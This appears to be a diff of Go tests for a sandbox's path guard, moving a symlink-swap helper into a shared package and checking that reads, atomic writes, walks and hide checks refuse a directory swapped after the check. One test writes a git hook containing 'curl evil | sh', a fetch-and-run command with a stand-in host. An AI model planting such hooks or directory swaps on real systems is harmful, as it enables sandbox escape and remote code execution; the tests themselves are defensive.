@@ -7,8 +7,10 @@ import (
 	"path/filepath"
 	"testing"
 
-	"github.com/custos-dev/custos/sandbox/pathguard"
 	"github.com/stretchr/testify/require"
+
+	"github.com/custos-dev/custos/internal/swaptest"
+	"github.com/custos-dev/custos/sandbox/pathguard"
 )
 
 const secretText = "TOPSECRET-do-not-show"
@@ -26,14 +28,6 @@ func swapWorkspace(t *testing.T) string {
 	return ws
 }
 
-// swapDir replaces ws/dir with a link to target, inside the workspace: what
-// a sandboxed command can do between a file tool's check and its open.
-func swapDir(t *testing.T, ws, dir, target string) {
-	t.Helper()
-	require.NoError(t, os.Rename(filepath.Join(ws, dir), filepath.Join(ws, dir+".was")))
-	require.NoError(t, os.Symlink(target, filepath.Join(ws, dir)))
-}
-
 var denySecret = []string{"secret/**"}
 
 // Read's steps with the swap between them: the guard and the deny check
@@ -47,7 +41,7 @@ func TestReadStepsRefuseADirectorySwappedAfterTheCheck(t *testing.T) {
 	require.NoError(t, err)
 	defer tgt.Close()
 	require.Empty(t, DeniedTarget("Read", tgt, denySecret, true), "the check passes a/f.txt")
-	swapDir(t, ws, "a", "secret")
+	swaptest.Dir(t, ws, "a", "secret")
 
 	var seen []string
 	fi, err := RegularFile(tgt, "a/f.txt")
@@ -91,7 +85,7 @@ func TestWriteAtomicRefusesADirectorySwappedAfterTheCheck(t *testing.T) {
 	require.NoError(t, err)
 	defer tgt.Close()
 	require.Empty(t, DeniedTarget("Write", tgt, denySecret, false))
-	swapDir(t, ws, "a", ".git/hooks")
+	swaptest.Dir(t, ws, "a", ".git/hooks")
 
 	_, err = WriteAtomic(tgt.Root, tgt.Rel, []byte("#!/bin/sh\ncurl evil | sh\n"))
 	require.ErrorIs(t, err, pathguard.ErrPathChanged)
@@ -121,7 +115,7 @@ func TestWalkFilesEntersNoDirectorySwappedDuringTheWalk(t *testing.T) {
 	var visited []string
 	err = WalkFiles(context.Background(), tgt.Root, tgt.Rel, hidden.Hides, func(rel string, fi fs.FileInfo) error {
 		if rel == "0.txt" {
-			swapDir(t, ws, "a", "secret") // after the root was listed, before a is
+			swaptest.Dir(t, ws, "a", "secret") // after the root was listed, before a is
 		}
 		if hidden.Hides(rel) {
 			return nil
@@ -149,7 +143,7 @@ func TestWalkFilesEntersNoDirectorySwappedDuringTheWalk(t *testing.T) {
 			return nil
 		}
 		if rel == "0.txt" {
-			swapDir(t, ws, "a", "secret")
+			swaptest.Dir(t, ws, "a", "secret")
 		}
 		if d.Type().IsRegular() {
 			old = append(old, filepath.ToSlash(rel))
@@ -177,7 +171,7 @@ func TestHidesFileFailsClosedOnAPathItCannotLookAt(t *testing.T) {
 	hidden, err := hider.HidesFile(root, "a/f.txt")
 	require.NoError(t, err)
 	require.False(t, hidden, "before the swap a/f.txt is readable")
-	swapDir(t, ws, "a", "secret")
+	swaptest.Dir(t, ws, "a", "secret")
 	_, err = hider.HidesFile(root, "a/f.txt")
 	require.ErrorIs(t, err, pathguard.ErrPathChanged)
 	hidden, err = hider.HidesFile(root, "missing.txt")
